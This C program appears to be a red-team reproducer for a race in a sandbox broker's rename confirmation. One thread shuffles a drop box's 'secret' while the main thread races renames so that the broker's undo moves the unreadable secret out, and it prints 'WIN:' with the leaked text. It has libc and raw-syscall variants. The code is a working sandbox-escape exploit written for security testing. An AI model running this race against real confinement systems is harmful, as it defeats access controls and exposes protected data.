/* Races the broker's rename confirmation (red-team finding 11 of the start-up round): its
 * undo once moved whatever lay at the destination at that moment, an object nobody decided
 * about, back to the source.
 *
 * Usage: rename_undo libc|raw BOX ITERATIONS   (run in a working directory the program
 * may read and write; BOX a drop box holding `secret`, which it may rename but not read)
 *
 * A second thread keeps renaming BOX/secret to BOX/x and back (allowed: one rule). The main
 * thread keeps writing `mine` to ./a, renaming ./a to BOX/x with RENAME_NOREPLACE (allowed:
 * the box grants nothing the working directory does not) and reading ./a back. If ./a ever
 * holds anything else, the secret was moved out of the box: it prints `WIN: ` and the text.
 * Either way it ends with one line of counts:
 *   `done ITER ok N eexist N exdev N other N moves N`
 * (`moves`: the second thread's successful renames, so the race ran). `libc` uses libc's
 * open/read/renameat2 (through the shim when dynamic), `raw` the system calls themselves
 * (the seccomp transport). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_NOREPLACE
#define RENAME_NOREPLACE (1 << 0)
#endif

static int raw;
static volatile int stop;
static char secret[4096], x[4096];
static long moves;

static long ren(const char *a, const char *b, unsigned flags)
{
    long rc = raw ? syscall(SYS_renameat2, (long)AT_FDCWD, a, (long)AT_FDCWD, b, (long)flags)
                  : renameat2(AT_FDCWD, a, AT_FDCWD, b, flags);
    return rc < 0 ? -errno : rc;
}

static int open_at(const char *p, int flags)
{
    return raw ? (int)syscall(SYS_openat, (long)AT_FDCWD, p, (long)flags, 0644L)
               : open(p, flags, 0644);
}

static void *shuffle(void *unused)
{
    (void)unused;
    while (!stop) {
        if (ren(secret, x, 0) == 0)
            __atomic_add_fetch(&moves, 1, __ATOMIC_RELAXED);
        if (ren(x, secret, 0) == 0)
            __atomic_add_fetch(&moves, 1, __ATOMIC_RELAXED);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc != 4 || (strcmp(argv[1], "libc") && strcmp(argv[1], "raw"))) {
        fprintf(stderr, "usage: rename_undo libc|raw BOX ITERATIONS\n");
        return 2;
    }
    raw = strcmp(argv[1], "raw") == 0;
    long iterations = atol(argv[3]);
    snprintf(secret, sizeof secret, "%s/secret", argv[2]);
    snprintf(x, sizeof x, "%s/x", argv[2]);
    pthread_t t;
    if (pthread_create(&t, NULL, shuffle, NULL)) {
        fprintf(stderr, "pthread_create failed\n");
        return 2;
    }
    long ok = 0, eexist = 0, exdev = 0, other = 0, i;
    for (i = 0; i < iterations; i++) {
        int fd = open_at("a", O_WRONLY | O_CREAT | O_TRUNC);
        if (fd >= 0) {
            if (write(fd, "mine\n", 5) != 5)
                other++;
            close(fd);
        }
        long rc = ren("a", x, RENAME_NOREPLACE);
        if (rc == 0)
            ok++;
        else if (rc == -EEXIST)
            eexist++;
        else if (rc == -EXDEV)
            exdev++;
        else
            other++;
        char buf[256] = {0};
        fd = open_at("a", O_RDONLY);
        if (fd >= 0) {
            long n = read(fd, buf, sizeof buf - 1);
            close(fd);
            if (n > 0 && strcmp(buf, "mine\n") != 0) {
                printf("WIN: %s", buf);
                i++;
                break;
            }
        }
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("done %ld ok %ld eexist %ld exdev %ld other %ld moves %ld\n", i, ok, eexist, exdev,
           other, __atomic_load_n(&moves, __ATOMIC_RELAXED));
    return 0;
}
